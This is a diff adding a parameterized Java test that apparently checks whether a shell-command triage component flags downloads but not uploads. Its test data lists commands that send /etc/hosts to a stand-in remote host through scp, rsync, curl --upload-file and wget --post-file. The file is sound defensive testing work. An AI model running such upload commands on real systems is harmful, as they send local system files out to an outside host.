@@ -206,6 +206,23 @@ final class SignalsTest {
                     .isEmpty();
         }
 
+        @ParameterizedTest
+        @CsvSource({
+            "scp /etc/hosts root@203.0.113.9:/tmp/a, false",
+            "scp root@203.0.113.9:/tmp/a /tmp/a, true",
+            "rsync -a /srv 203.0.113.9::backup/srv, false",
+            "rsync -a rsync://203.0.113.9/a /srv/a, true",
+            "curl -T /etc/hosts http://203.0.113.9/, false",
+            "curl --upload-file=/etc/hosts http://203.0.113.9/, false",
+            "wget --post-file=/etc/hosts http://203.0.113.9/, false",
+            "wget -T 5 http://203.0.113.9/a, true"
+        })
+        void copier_speaksAgainstWhatItFetchedAndNotWhatItSent(String command, boolean expected) {
+            String[] words = command.split(" ");
+            Triage triage = triage(shell(), List.of(run(-9, "/usr/bin/" + words[0], words)));
+            assertThat(detail(triage, "download-before").isPresent()).isEqualTo(expected);
+        }
+
         @Test
         void download_withoutArguments_isNone() {
             assertThat(detail(triage(shell(), List.of(run(-9, "/usr/bin/curl", "curl"))), "download-before"))
